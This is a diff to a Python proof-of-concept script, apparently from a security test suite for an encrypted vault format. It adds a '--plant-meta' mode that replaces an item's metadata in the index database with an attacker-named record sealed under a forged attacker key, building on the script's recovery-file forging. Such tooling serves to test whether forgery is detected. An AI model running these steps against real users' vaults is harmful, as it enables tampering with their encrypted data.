@@ -5,7 +5,9 @@
 its own main key, put first (`--prepend`) or as the only set.
 
 Usage: forge_recovery.py recovery.n11r [--prepend]     (rewrites the file in place)
-       forge_recovery.py --meta-opens index.sqlite ID    (exit 0 when the row's meta opens under 0xAA…)"""
+       forge_recovery.py --meta-opens index.sqlite ID    (exit 0 when the row's meta opens under 0xAA…)
+       forge_recovery.py --plant-meta index.sqlite ID NAME  (the row's meta replaced by one of the
+                                                          attacker's, named NAME, sealed under 0xAA…)"""
 import os, sys
 
 sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
@@ -27,6 +29,18 @@ def main():
         ok = sc.unwrap(key, meta, b"nu11vlt item meta v2" + bytes.fromhex(sys.argv[3]) + aid) is not None
         print("opens" if ok else "does-not-open")
         return 0 if ok else 1
+    if sys.argv[1] == "--plant-meta":
+        import json, sqlite3
+        item = sys.argv[3]
+        db = sqlite3.connect(sys.argv[2])
+        (album,) = db.execute("SELECT album FROM item WHERE id = ?", (item,)).fetchone()
+        aid = bytes.fromhex(album) if album else bytes(16)
+        plain = json.dumps({"name": sys.argv[4], "size": 999, "type": "application/x-attacker", "created": 1000000000}).encode()
+        plain += b" " * (512 - len(plain))
+        meta = wrap(sc.subkey(MAIN, b"index metadata"), plain, b"nu11vlt item meta v2" + bytes.fromhex(item) + aid)
+        db.execute("UPDATE item SET meta = ? WHERE id = ?", (meta, item))
+        db.commit()
+        return 0
     path, prepend = sys.argv[1], "--prepend" in sys.argv
     r = open(path, "rb").read()
     clear, pub = r[8:56], r[24:56]
